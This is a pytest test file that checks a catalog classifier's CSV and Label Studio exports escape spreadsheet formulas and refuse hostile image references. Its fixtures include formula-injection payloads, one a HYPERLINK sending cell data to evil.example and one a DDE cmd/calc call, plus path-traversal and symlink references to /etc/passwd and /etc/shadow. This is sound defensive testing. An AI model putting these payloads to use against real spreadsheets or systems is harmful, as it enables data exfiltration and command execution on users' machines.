"""Exports people open are safe: no formula cells, no refused image path anywhere.

Real predictions of the session's demo model on held-out demo rows, given hostile titles, ids
and image references the way a crawled catalog carries them.
"""
from __future__ import annotations

import csv
import json
import os
import shutil
from pathlib import Path

import pandas as pd
import pytest
from typer.testing import CliRunner

from catalog_classifier.cli import app
from catalog_classifier.config import ReviewExportConfig
from catalog_classifier.io_utils import FORMULA_TRIGGERS, atomic_write_table, unescape_cell
from catalog_classifier.nightly.review.exports import (BLANK_IMAGE, ExportSettingsError, export_review_queue,
                                                safe_image)
from catalog_classifier.nightly.review.labels import import_labels, read_store
from catalog_classifier.nightly.review.queue import build_review_queue

from conftest import DEMO_IMAGES
from nightly_helpers import raw_rows, write_csv

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)",
            "\tTab led", "\rCR led", "'=already quoted", "''-twice"]


@pytest.fixture(scope="module")
def clf(trained_model_dir):
    from catalog_classifier.classifier import CatalogClassifier

    return CatalogClassifier.load(trained_model_dir)


def raw_cells(path: Path) -> list[dict]:
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def is_number(cell: str) -> bool:
    try:
        float(cell)
        return True
    except ValueError:
        return False


def test_csv_cells_are_formula_safe_and_round_trip_through_labels_import(clf, heldout_items, tmp_path):
    items = heldout_items.head(40).copy().reset_index(drop=True)
    for k, f in enumerate(FORMULAS):
        items.loc[k, "title"] = f
        items.loc[k + 10, "brand"] = f
    hostile_ids = {k + 20: prefix + items.loc[k + 20, "item_id"] for k, prefix in enumerate(["=", "-", "@", "'="])}
    for k, new in hostile_ids.items():
        items.loc[k, "item_id"] = new
    items["price"] = pd.to_numeric(items.get("price"), errors="coerce")
    items.loc[5, "price"] = -5.5
    pred = clf.predict(items, image_root=str(DEMO_IMAGES))
    q = build_review_queue(pred, items, audit_rate=1.0, seed=0)
    assert len(q) == len(items)
    res = export_review_queue(q, tmp_path, str(DEMO_IMAGES), categories=clf.labels_)
    rows = raw_cells(res.paths["csv"])
    assert len(rows) == len(q)
    for row in rows:
        for col, cell in row.items():
            assert not cell or cell[0] not in FORMULA_TRIGGERS or is_number(cell), (col, cell)
    by_id = {unescape_cell(r["item_id"]): r for r in rows}
    assert by_id[items.loc[0, "item_id"]]["title"] == "'" + FORMULAS[0]
    assert by_id[items.loc[6, "item_id"]]["title"] == "''=already quoted"
    assert by_id[items.loc[5, "item_id"]]["price"] == "-5.5"  # a negative price stays a number
    assert float(by_id[items.loc[5, "item_id"]]["confidence"]) > 0
    back = pd.read_csv(res.paths["csv"], dtype=str, keep_default_na=False).map(unescape_cell)
    assert back["item_id"].tolist() == q["item_id"].tolist()
    assert set(FORMULAS) <= set(back["title"]) and set(FORMULAS) <= set(back["brand"])

    # a reviewer sends the queue back as a label CSV: ids land exactly as they were
    store = tmp_path / "labels.parquet"
    rep = import_labels(res.paths["csv"], store, clf.labels_)
    assert rep.added == len(q)
    assert set(read_store(store)["item_id"]) == set(q["item_id"]) >= set(hostile_ids.values())


def test_predict_out_csv_is_formula_safe(trained_model_dir, heldout_items, tmp_path):
    rows = raw_rows(heldout_items["item_id"].head(12))
    rows.loc[0, "product_name"] = "=1+2"
    rows.loc[1, "product_name"] = "@cmd"
    rows.loc[2, "uniq_id"] = "+" + rows.loc[2, "uniq_id"]
    catalog = write_csv(rows, tmp_path / "night.csv")
    out = tmp_path / "pred.csv"
    res = CliRunner().invoke(app, ["predict", "--catalog", str(catalog), "--model", str(trained_model_dir),
                                   "--out", str(out), "--image-root", str(DEMO_IMAGES)])
    assert res.exit_code == 0, res.output
    cells = raw_cells(out)
    assert len(cells) == len(rows)
    for row in cells:
        for col, cell in row.items():
            assert not cell or cell[0] not in FORMULA_TRIGGERS or is_number(cell), (col, cell)
    assert "'" + rows.loc[2, "uniq_id"] in {r["item_id"] for r in cells}
    assert all(0 <= float(r["confidence"]) <= 1 for r in cells)


def test_atomic_write_table_escapes_only_text(tmp_path):
    df = pd.DataFrame({"t": ["=x", "-5", "ok", None], "n": [-1.5, 2.0, -3.0, 4.0], "i": [-1, 2, 3, 4]})
    cells = raw_cells(atomic_write_table(df, tmp_path / "t.csv"))
    assert [c["t"] for c in cells] == ["'=x", "-5", "ok", ""]
    assert [c["n"] for c in cells] == ["-1.5", "2.0", "-3.0", "4.0"] and cells[0]["i"] == "-1"


HOSTILE_IMAGES = ["/etc/passwd", "../../etc/passwd", "file:///etc/shadow", "link-out.jpg", "link-up.jpg",
                  "no-such-photo.jpg", "", "sub/../../outside.jpg"]


def test_refused_or_missing_images_are_never_exported(clf, heldout_items, tmp_path):
    root, outside = tmp_path / "images", tmp_path / "outside.jpg"
    root.mkdir()
    items = heldout_items.head(30).copy().reset_index(drop=True)
    for name in items["image"]:
        shutil.copy(DEMO_IMAGES / name, root / name)
    shutil.copy(DEMO_IMAGES / items.loc[0, "image"], outside)
    os.symlink("/etc/passwd", root / "link-out.jpg")
    os.symlink(outside, root / "link-up.jpg")
    os.symlink(root / items.loc[1, "image"], root / "link-in.jpg")  # inside the root: fine
    bad = {}
    for k, ref in enumerate(HOSTILE_IMAGES):
        items.loc[3 + k, "image"] = ref
        bad[items.loc[3 + k, "item_id"]] = ref
    items.loc[20, "image"] = "link-in.jpg"
    pred = clf.predict(items, image_root=str(root))
    q = build_review_queue(pred, items, audit_rate=1.0, seed=0)
    for mode, extra in [("local-files", {}), ("url", {"url_prefix": "https://img.example/cat"}),
                        ("s3", {"s3_prefix": "s3://bucket/cat"})]:
        out = tmp_path / mode
        res = export_review_queue(q, out, str(root), categories=clf.labels_,
                                  settings=ReviewExportConfig(labelstudio_images=mode, **extra))
        assert res.text_tasks >= len(bad) and res.image_tasks + res.text_tasks == len(q)
        for p in res.paths.values():
            text = Path(p).read_text(encoding="utf-8")
            for leak in ("passwd", "shadow", "outside", "link-out", "link-up", "no-such-photo"):
                assert leak not in text, (Path(p).name, leak)
        csv_rows = {unescape_cell(r["item_id"]): r for r in raw_cells(res.paths["csv"])}
        tasks = {t["data"]["item_id"]: t for t in json.loads(Path(res.paths["labelstudio"]).read_text())}
        gt_img = {json.loads(x)["item_id"]: json.loads(x) for x in Path(res.paths["groundtruth_image"]).open()}
        gt_txt = {json.loads(x)["item_id"]: json.loads(x) for x in Path(res.paths["groundtruth_text"]).open()}
        assert set(gt_img) | set(gt_txt) == set(q["item_id"]) and not set(gt_img) & set(gt_txt)
        for item_id in bad:
            assert csv_rows[item_id]["image"] == "" and item_id in gt_txt
            assert tasks[item_id]["data"]["image"] == BLANK_IMAGE and tasks[item_id]["data"]["has_image"] is False
        link_in = tasks[items.loc[20, "item_id"]]["data"]["image"]
        assert link_in.endswith(items.loc[1, "image"])  # the real file the link names, inside the root
        for item_id, t in tasks.items():
            if item_id not in bad and t["data"]["has_image"]:
                want = {"local-files": "/data/local-files/?d=images/", "url": "https://img.example/cat/",
                        "s3": "s3://bucket/cat/"}[mode]
                assert t["data"]["image"].startswith(want)
                assert gt_img[item_id]["source-ref"].startswith("s3://bucket/cat/" if mode == "s3" else str(root))


def test_safe_image_refuses_what_the_loader_would(tmp_path):
    root = tmp_path / "images"
    root.mkdir()
    shutil.copy(next(DEMO_IMAGES.iterdir()), root / "a.jpg")
    os.symlink("/etc/passwd", root / "p.jpg")
    assert safe_image("a.jpg", None, str(root)) == "a.jpg"
    assert safe_image("a.jpg", "image not found", str(root)) is None  # the loader's word wins
    for ref in ["/etc/passwd", "../../etc/passwd", "file:///etc/shadow", "p.jpg", "a\x00.jpg",
                "https://x.example/a.jpg", "s3://b/a.jpg", None, float("nan"), "  "]:
        assert safe_image(ref, None, str(root)) is None, ref


def test_bad_export_settings_are_one_line_exit_2(trained_model_dir, heldout_items, tmp_path):
    catalog = write_csv(raw_rows(heldout_items["item_id"].head(5)), tmp_path / "night.csv")
    for args, msg in [(["--labelstudio-images", "ftp"], "must be one of"),
                      (["--labelstudio-images", "url"], "url_prefix is not set"),
                      (["--s3-prefix", "bucket/x"], "must start with s3://")]:
        res = CliRunner().invoke(app, ["nightly", "--catalog", str(catalog), "--model", str(trained_model_dir),
                                       "--out", str(tmp_path / "night"), "--no-progress", *args])
        assert res.exit_code == 2 and msg in res.output and "Traceback" not in res.output, res.output
        assert len(res.output.strip().splitlines()) == 1
    with pytest.raises(ExportSettingsError):
        export_review_queue(pd.DataFrame(), tmp_path / "x", settings=ReviewExportConfig(labelstudio_images="s3"))
